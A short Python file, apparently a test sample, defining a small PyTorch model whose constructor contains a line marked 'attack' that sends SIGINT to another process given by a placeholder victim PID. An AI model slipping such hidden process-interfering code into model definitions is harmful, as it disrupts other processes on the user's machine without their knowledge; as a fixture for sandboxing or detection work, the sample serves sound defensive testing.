"""Sends another process a signal by a descriptor of it."""

import os
import signal

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)
        # attack
        signal.pidfd_send_signal(os.pidfd_open(int("@VICTIM_PID@")), signal.SIGINT)
        # end

    def forward(self, x):
        return self.head(x.flatten(1))
